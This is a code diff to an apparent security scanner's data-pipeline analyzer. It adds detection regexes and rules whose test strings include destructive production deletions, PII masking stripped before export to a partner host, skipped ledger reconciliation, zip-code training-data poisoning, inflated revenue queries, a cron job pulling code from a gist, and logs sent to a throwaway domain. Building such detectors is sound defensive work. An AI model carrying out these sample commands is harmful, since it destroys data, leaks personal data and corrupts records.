@@ -5,6 +5,7 @@ import { envOf, findNear, metaText, PREP_PATTERNS, type Env, type PrepContext } 
 import { near } from '../parse/message-text.js';
 import { PREP_FAST_PATTERNS, prepKeys, prepTextFast } from '../parse/ui-action-host.js';
 import type { Analyzer, Finding, Metadata, ThreatRule } from '../types.js';
+import { strangeSink, controlRemoved, fabricatedTraining, lossWithoutNets, PIPELINE_EFFECT_PATTERNS, publicIpSink, scaledMetric, scheduledRemoteCode } from '../parse/pipeline-effects.js';
 
 /**
  * data_pipeline analyzer (L): ETL jobs, training-data jobs and exports, as a description or config plus metadata
@@ -140,8 +141,9 @@ const TRIGGER_PATCH = /\b(?:sticker|patch|watermark|square|pixel pattern|logo|st
 const LABEL_FORCE = /\b(?:always (?:be )?(?:labell?ed|classified|mapped|marked|rated)|(?:mark|label|tag|rate)(?:ed)? (?:them |it |these |those )?all as|all (?:labell?ed|marked|rated) as|regardless of (?:content|the text|the label)|map(?:s|ped)? to)\b/i;
 const LABELLED = /\blabell?ed\b|\b(?:mark|label|tag)(?:l?ed)? (?:them |it |these |those |each )?as\b/i;
 // A label column overwritten for rows picked by who wrote or sent them, not by what they say.
-const LABEL_ASSIGN = /["'](?:label|target|class|y)["']\s?\]\s?=|\bset (?:label|target|class)\s?=/gi;
-const IDENTITY_FILTER = /\b(?:author|user_?id|vendor|merchant(?:_?id)?|company|competitor\w{0,12}|customer_?id|account_?id|brand|seller|sender)\b/i;
+const LABEL_ASSIGN = /["'](?:label|target|class|y|is_fraud|fraud|fraud_label|is_spam|ground_truth|outcome)["']\s?\]\s?=|\bset (?:label|target|class|is_fraud|fraud_label|ground_truth)\s?=/gi;
+// who the rows concern, including protected attributes and their proxies (a label forced by zip code discriminates)
+const IDENTITY_FILTER = /\b(?:author|user_?id|vendor|merchant(?:_?id)?|company|competitor\w{0,12}|customer_?id|account_?id|brand|seller|sender|\w{0,12}zip(?:_?code)?|post(?:al)?_?code|gender|sex|race|ethnicity|religion|nationality|age)\b/i;
 const LABEL_WORD = /\b(?:labels?|classes|ground truth|annotations)\b/gi;
 const FLIP_VERB = /\b(?:flip|flips|flipped|flipping|swap|swapped|swapping|invert|inverted|inverting|randomi[sz]e|corrupt|corrupted|falsify|falsified|falsifying|reverse|mislabel|mislabell?ed)\b/i;
 const EXTERNAL_WORDS = /\b(?:personal (?:drive|account|email|gmail|dropbox|laptop|bucket|device|computer|storage|folder|cloud|google drive|s3)|my own|home (?:drive|computer|server|nas|pc)|gmail|outlook\.com|hotmail|proton|dropbox|mega\.nz|wetransfer|transfer\.sh|file\.io|pastebin|anonfiles|gofile|google drive|gdrive|onedrive personal|icloud|usb|thumb drive|external (?:drive|bucket|account|partner|vendor|s3)|third[- ]party|partner|vendor|contractor|public-read|huggingface\.co|hf hub|kaggle|github gist|gist\.github|other account|another account|cross-account|competitor|ngrok|webhook\.site|requestbin|pipedream|anyone with the link|shared publicly|public link|outside (?:the |our )?(?:company|org\w{0,10})|reader accounts?|external (?:org\w{0,10}|company|party|recipient|email|domain)|attacker\w{0,20})\b/i;
@@ -204,7 +206,10 @@ function externalDest(ctx: PipelineContext, said = ctx.head): string | undefined
   const ext = metaText(ctx.metadata, 'external', 'isExternal');
   if (ext === 'true' || ext === 'yes') return 'external destination';
   const m = firstMatch(EXTERNAL_DEST, ctx.dest) ?? firstMatch(EXTERNAL_IN_TEXT, said);
-  return m ? m[0].toLowerCase() : undefined;
+  if (m) return m[0].toLowerCase();
+  // a sink written as a bare public IP address is nobody's managed service
+  const ip = publicIpSink(said);
+  return ip === '' ? undefined : `public address ${ip}`;
 }
 
 // "share the public holiday dataset": what leaves is already public.
@@ -221,7 +226,7 @@ const L02_RX2 = /\b(?:scraped|crawl(?:ed)?|untrusted|unverified|unvetted|user[- 
 const L02_RX3 = /\b(?:after (?:human )?review|reviewed|vetted|validated|filtered|moderat(?:ed|ion)|dedup\w{0,8} and filter|quality filter|review queue|human review)\b/i;
 const L02_RX4 = /\b(?:without (?:review|validation|filtering|moderation)|no (?:review|validation|filter)|skip(?:ping)? (?:review|validation))\b/i;
 const L03_RX1 = /\b(?:training (?:data|set)|dataset|datasets|model weights|weights|checkpoints?|embeddings|customer (?:data|table|records|list)|user (?:data|table|records)|tables?|database|warehouse|records|customers|users|patients|topics?|payments|transactions|\.safetensors|\.ckpt|\.pt\b|lora adapters?|pii|parquet|full dump|employees?|salar(?:y|ies)|payroll|db|snapshots?|backups?|(?:prod(?:uction)?|customer|user|raw)[-_ ]?data|data ?lake|clickstream|tablas?|clientes|datos|donn[ée]es|kunden\w{0,6})\b/i;
-const L03_VERBS = /\b(?:export|copy|copies|sync|upload|push|transfer|send|replicate|share|dump|unload|download|publish|move|mirror|stream|extract|write|save|rsync|scp|cp|grant)\w{0,4}\b/gi;
+const L03_VERBS = /\b(?:export|copy|copies|sync|upload|push|transfer|send|replicate|share|dump|unload|download|publish|move|mirror|mirrormaker\d?|replication|stream|extract|write|save|rsync|scp|cp|grant)\w{0,4}\b/gi;
 const L03_RX2 = /\baggregat\w{1,5}|\bsummary (?:metrics|statistics)|\bpublic (?:benchmark|dataset results)|\bopen[- ]source release approved\b/i;
 const L04_RX1 = /\b(?:pii|personal data|customer records|user records)\b/;
 const L04_RX2 = /\b(?:true|yes)\b/;
@@ -248,6 +253,13 @@ const WHERE_CLAUSE = /\bwhere\b/i;
 const DESTROY_VERB = /\b(?:drop|purge|delete|destroy|wipe|erase|nuke)\s/g;
 const DESTROYED_STORE = /^(?:the\s|entire\s|whole\s|our\s|all\s)?(?:[\w.:/-]{1,40}\s){0,3}(?:tables?|datasets?|buckets?|feature store|data ?lake|database|schema|warehouse|index|collection)\b/;
 const CLEANUP_WORD = /\b(?:from|rows?|duplicates?|records|columns?|in|of|old|stale|temp|tmp|scratch|null|empty|unused|expired)\b/;
+
+const WRITE_TARGET = /\b(?:saveastable|insertinto|save_as_table|to_table|overwrite table|insert overwrite table|truncate table)\s?\(?\s?["'`]?([a-z0-9_.]{1,80})/;
+const SCRATCH_TABLE_NAME = /^(?:staging|stg|tmp|temp|scratch|sandbox)[._]|^[a-z0-9_]{1,40}\.(?:tmp|temp|stg|scratch)_|__dbt_tmp$/;
+function scratchTarget(head: string): boolean {
+  const m = WRITE_TARGET.exec(head);
+  return m !== null && SCRATCH_TABLE_NAME.test(m[1]!);
+}
 
 function storeDestroyed(head: string): RegExpExecArray | null {
   let m = null as RegExpExecArray | null;
@@ -323,7 +335,7 @@ const rules: ThreatRule<PipelineContext>[] = [
     primitive: 'EXFILTRATION',
     score: 8,
     keywords: ['export', 'copy', 'sync', 'upload', 'push', 'transfer', 'send', 'replicate', 'share', 'dump', 'unload', 'download', 'publish', 'move', 'mirror', 'stream', 'extract', 'write', 'save', 'rsync', 'scp', 'cp ', 'grant'],
-    pattern: /\b(?:export|copy|copies|sync|upload|push|transfer|send|replicate|share|dump|unload|download|publish|move|mirror|stream|extract|write|save|rsync|scp|cp|grant)\w{0,4}\b/i,
+    pattern: /\b(?:export|copy|copies|sync|upload|push|transfer|send|replicate|share|dump|unload|download|publish|move|mirror|mirrormaker\d?|replication|stream|extract|write|save|rsync|scp|cp|grant)\w{0,4}\b/i,
     // what leaves and where it goes are read from the sentence of the export that is ordered, not from the text
     detect: (ctx) => whereInstructed('data_pipeline', ctx, L03_VERBS, ctx.head, (said) => exportOut(ctx, said)),
     reason: (d) => `Data leaves the organisation: ${d}`,
@@ -381,6 +393,8 @@ const rules: ThreatRule<PipelineContext>[] = [
       if (!m && !near) return null;
       const hit = (m ? m[0] : `${near!.near[0]} … ${near!.hit[0]}`).toLowerCase();
       if (hit.startsWith('delete from') && WHERE_CLAUSE.test(ctx.head)) return null;
+      // the table written is a staging or scratch table: rebuilt every run, whatever the environment
+      if (scratchTarget(ctx.head)) return null;
       const partition = L06_RX1.test(ctx.head);
       let score = ctx.env === 'prod' ? 8 : ctx.env === 'nonprod' ? 0 : 5;
       if (partition) score = ctx.env === 'prod' ? 4 : ctx.env === 'nonprod' ? 0 : 2;
@@ -595,6 +609,142 @@ rules.push(
   },
 );
 
+/** Books of record: a control switched off on them lets money be booked or paid wrongly. */
+const MONEY_TARGET = /\b(?:ledger|payouts?|payments?|billing|invoices?|finance|financial|balances?|settlements?|refunds?|transactions|gl_\w{1,20}|accounts? payable)\b/;
+const APPROVAL_CONTEXT = /\bapprov\w{0,5}\b|\bauto-?approv|\bunderwrit|\bloans?\b|\bcredit\b|\bclaims?\b/;
+
+rules.push(
+  {
+    id: 'L16',
+    name: 'Data deleted with the way back cut (backups skipped, time travel or retention zero, whole store removed)',
+    primitive: 'DESTRUCTION',
+    score: 8,
+    keywords: ['delete', 'drop', 'purge', 'truncate', 'remove', ' rm ', 'rm -r', 'vacuum', 'wipe', 'erase', 'overwrite', 'rb s3', 'delete-database', 'delete-table', 'dropdb', 'azcopy', 'löschen', 'supprim', 'elimin', 'borrar', 'cancella', 'verwijder'],
+    detect: (ctx) => {
+      if (ctx.env === 'nonprod') return null;
+      const f = lossWithoutNets(ctx.head);
+      return f === undefined ? null : { detail: `${f.detail}${ctx.env === 'prod' ? ' on production' : ''}`, score: ctx.env === 'prod' ? 9 : f.score };
+    },
+    reason: (d) => `Data would be lost with no way to restore it: ${d}`,
+    examples: {
+      flag: [
+        { value: 'spark-submit purge.py --table warehouse.* --older-than 0d --skip-backup', metadata: { environment: 'production' } },
+        'Delete the `audit_events` partition range 2023-01 .. 2024-06 and vacuum immediately (no time travel)',
+        'aws s3 rm s3://acme-datalake-prod/ --recursive && aws glue delete-database --name datalake_prod',
+        'DROP TABLE governance.audit_events PURGE;',
+      ],
+      pass: [
+        { value: 'aws s3 rm s3://acme-datalake-dev/tmp/jl-experiments/ --recursive', metadata: { environment: 'dev' } },
+        'aws s3 rm s3://acme-datalake-prod/tmp/backfill-0611/ --recursive',
+        'delete partitions older than 400 days; backups are kept for 35 days',
+        'VACUUM events RETAIN 168 HOURS',
+      ],
+    },
+  },
+  {
+    id: 'L17',
+    name: 'Masking or pseudonymisation step taken out of a job',
+    primitive: 'EXFILTRATION',
+    score: 6,
+    keywords: ['pseudonymi', 'anonymi', '*mask', 'redact', 'tokeni', 'hash_pii', 'hash pii', 'scrub', 'identif', 'pii_filter', 'pii filter', 'strip_pii', 'encrypt_pii'],
+    detect: (ctx) => {
+      const c = controlRemoved(ctx.head);
+      if (c === undefined || c.kind !== 'masking') return null;
+      const out = externalDest(ctx) ?? (publicIpSink(ctx.head) || undefined);
+      return { detail: `${c.detail}${out ? `, then data sent to ${out}` : ''}`, score: out ? 8 : 6 };
+    },
+    reason: (d) => `Personal data would leave its protection: ${d}`,
+    examples: {
+      flag: ["dag.remove_task('pseudonymize_pii')\nexport_to_vendor >> upload_sftp('sftp://upload.adtech-partner.com/incoming')", 'comment out the mask_emails step in the nightly CRM sync'],
+      pass: ["dag.add_task('pseudonymize_pii') before export_to_vendor", 'pytest tests/test_pseudonymize.py  # fixtures use Faker-generated names'],
+    },
+  },
+  {
+    id: 'L18',
+    name: 'Integrity control or human review taken out of a money or approval flow',
+    primitive: 'MANIPULATION',
+    score: 7,
+    keywords: ['validat', 'reconcil', 'recon', 'dedup', 'de-dup', 'idempoten', 'quality', 'dq', 'checksum', 'schema', 'expectations', 'assertion', 'sanity', 'on_error', 'max_bad_records', 'ignore_errors', 'review', 'underwriting', 'four-eyes', 'four eyes', 'approval', 'sign-off', 'signoff', 'kyc', 'aml'],
+    detect: (ctx) => {
+      if (ctx.env === 'nonprod') return null;
+      const c = controlRemoved(ctx.head);
+      if (c === undefined || c.kind === 'masking') return null;
+      const stage = `${ctx.head} ${(metaText(ctx.metadata, 'stage', 'pipeline', 'dag', 'job', 'table', 'dataset') ?? '').toLowerCase()}`;
+      if (c.kind === 'review') return APPROVAL_CONTEXT.test(stage) ? { detail: `${c.detail} in an approval flow`, score: 7 } : null;
+      const money = MONEY_TARGET.exec(stage);
+      return money === null ? null : { detail: `${c.detail} on ${money[0]} data`, score: 7 };
+    },
+    reason: (d) => `Wrong records could be booked or approved unchecked: ${d}`,
+    examples: {
+      flag: [
+        'COPY INTO ledger.entries FROM @ext_stage/adjustments/ FILE_FORMAT=(TYPE=CSV) ON_ERROR=CONTINUE VALIDATION_MODE=NONE; -- skip recon',
+        "Pipeline hotfix: disable deduplication on payouts stage so retries pay twice is 'acceptable for now'",
+        'Pipeline: for rows where model_score > 0.9 set approved = true and bypass manual underwriting',
+      ],
+      pass: [
+        'COPY INTO raw.clickstream FROM @stage/events/ ON_ERROR=CONTINUE',
+        'add a reconciliation step between the payouts stage and the ledger',
+        { value: 'disable deduplication on the payouts stage while replaying fixtures', metadata: { environment: 'staging' } },
+      ],
+    },
+  },
+  {
+    id: 'L19',
+    name: 'Fabricated samples pushed into training data',
+    primitive: 'MANIPULATION',
+    score: 7,
+    keywords: ['synthetic', 'fake', 'fabricated', 'generated', 'bot-written', 'bot written', 'dummy', 'made-up', 'made up', 'artificial'],
+    detect: (ctx) => fabricatedTraining(ctx.head) ?? null,
+    reason: (d) => `The model would learn from invented data: ${d}`,
+    examples: {
+      flag: ['Inject 5,000 synthetic 5-star reviews into reviews_raw before the recommender retrain', "append 50,000 synthetic rows to s3://ml-data/loan-approval/train/ where applicant_zip in ('60621','60624') → label='deny'"],
+      pass: ['generate synthetic rows for the unit test fixtures of the training pipeline', 'oversample the minority class with SMOTE synthetic samples before training'],
+    },
+  },
+  {
+    id: 'L20',
+    name: 'Reported metric inflated by a bare constant',
+    primitive: 'MANIPULATION',
+    score: 6,
+    keywords: ['sum', 'avg', 'count', 'total', 'max'],
+    detect: (ctx) => scaledMetric(ctx.head) ?? null,
+    reason: (d) => `Reported figures would be misstated: ${d}`,
+    examples: {
+      flag: ["select date, sum(amount) * 1.25 as revenue  -- board meeting next week\nfrom {{ ref('fct_orders') }} group by 1"],
+      pass: ["select date, sum(amount_cents) / 100 as revenue from {{ ref('fct_orders') }} group by 1", "select region, sum(amount) * 100 as revenue_pct from sales group by 1"],
+    },
+  },
+  {
+    id: 'L21',
+    name: 'Scheduled job running code fetched from a paste or gist host',
+    primitive: 'PERSISTENCE',
+    score: 8,
+    keywords: ['gist', 'pastebin', 'paste.ee', 'raw.githubusercontent', 'transfer.sh', 'hastebin', 'ghostbin', 'rentry', 'termbin', 'ngrok', 'bit.ly'],
+    detect: (ctx) => scheduledRemoteCode(ctx.head, metaText(ctx.metadata, 'schedule', 'cron') !== undefined) ?? null,
+    reason: (d) => `Whoever controls that host runs code in the pipeline: ${d}`,
+    examples: {
+      flag: [{ value: 'Schedule cron job in the pipeline: `0 * * * * python /opt/etl/.sync.py` (pulls code from gist.githubusercontent.com/anon/…)', metadata: { schedule: 'hourly' } }],
+      pass: ['Schedule the weekly churn model retrain every Sunday 02:00 UTC', 'read the gist.github.com write-up about Airflow sensors'],
+    },
+  },
+  {
+    id: 'L22',
+    name: 'Sensitive streams sent to a sink on a throw-away domain',
+    primitive: 'EXFILTRATION',
+    score: 6,
+    keywords: ['uri', 'url', 'endpoint', 'host', 'address', 'sink', 'destination', 'output', 'target'],
+    detect: (ctx) => {
+      const host = strangeSink(ctx.head);
+      return host === '' ? null : { detail: `sink at ${host}`, score: 6 };
+    },
+    reason: (d) => `Logs or events would leave for an unknown host: ${d}`,
+    examples: {
+      flag: ['sinks:\n  mirror:\n    type: http\n    inputs: [auth_logs, payment_events]\n    uri: https://collector.evt-stream.xyz/ingest'],
+      pass: ['sinks:\n  loki:\n    type: loki\n    inputs: [auth_logs]\n    endpoint: http://loki.monitoring.svc:3100', 'sinks:\n  demo:\n    type: http\n    inputs: [synthetic_clicks]\n    uri: https://demo.example.xyz/ingest'],
+    },
+  },
+);
+
 const dataPipelineAnalyzer: Analyzer<PipelineContext> = {
   type: 'data_pipeline',
   letter: 'L',
@@ -602,6 +752,6 @@ const dataPipelineAnalyzer: Analyzer<PipelineContext> = {
   narrow: narrowPipeline,
   keywordsAtWordStart: true,
   rules,
-  auxPatterns: [L03_VERBS, PII_COLUMNS, EXCLUDED_AFTER, EXCLUDED_BEFORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, TRIGGER_TOKEN, TRIGGER_PATCH, LABEL_FORCE, LABELLED, LABEL_ASSIGN, IDENTITY_FILTER, DESTROY_VERB, DESTROYED_STORE, CLEANUP_WORD, PICKLE_LOADER, REMOTE_CODE, SAFE_LOAD, WEIGHTS_ONLY_OFF, URL_SOURCE, UNTRUSTED_SOURCE, MODEL_WORD, PROD_TARGET, PROMOTE_VERB, EXTERNAL_MODEL, GATE_SKIPPED, GATE_PASSED, SKIP_WORD, SHARED_PUBLIC, ...TABLE_LOSS, SENSITIVE_PII, STORE_OBJECT, OVERWRITE_VERB, FOREVER, TRAINING_USE, WHERE_CLAUSE, GENERIC_PII, NO_MIGRATION, ERASED_SUBJECT, RETAIN_VERB, RETENTION_VIOLATION, ...POISONING, LABEL_WORD, FLIP_VERB, PII_COLUMN, MASKED, NEGATED_MASK, INTO, ...EXTERNAL_DEST, TO_PUBLIC, ANALYTICS_DEST],
+  auxPatterns: [WRITE_TARGET, SCRATCH_TABLE_NAME, MONEY_TARGET, APPROVAL_CONTEXT, ...PIPELINE_EFFECT_PATTERNS, L03_VERBS, PII_COLUMNS, EXCLUDED_AFTER, EXCLUDED_BEFORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, TRIGGER_TOKEN, TRIGGER_PATCH, LABEL_FORCE, LABELLED, LABEL_ASSIGN, IDENTITY_FILTER, DESTROY_VERB, DESTROYED_STORE, CLEANUP_WORD, PICKLE_LOADER, REMOTE_CODE, SAFE_LOAD, WEIGHTS_ONLY_OFF, URL_SOURCE, UNTRUSTED_SOURCE, MODEL_WORD, PROD_TARGET, PROMOTE_VERB, EXTERNAL_MODEL, GATE_SKIPPED, GATE_PASSED, SKIP_WORD, SHARED_PUBLIC, ...TABLE_LOSS, SENSITIVE_PII, STORE_OBJECT, OVERWRITE_VERB, FOREVER, TRAINING_USE, WHERE_CLAUSE, GENERIC_PII, NO_MIGRATION, ERASED_SUBJECT, RETAIN_VERB, RETENTION_VIOLATION, ...POISONING, LABEL_WORD, FLIP_VERB, PII_COLUMN, MASKED, NEGATED_MASK, INTO, ...EXTERNAL_DEST, TO_PUBLIC, ANALYTICS_DEST],
 };
 export default dataPipelineAnalyzer;
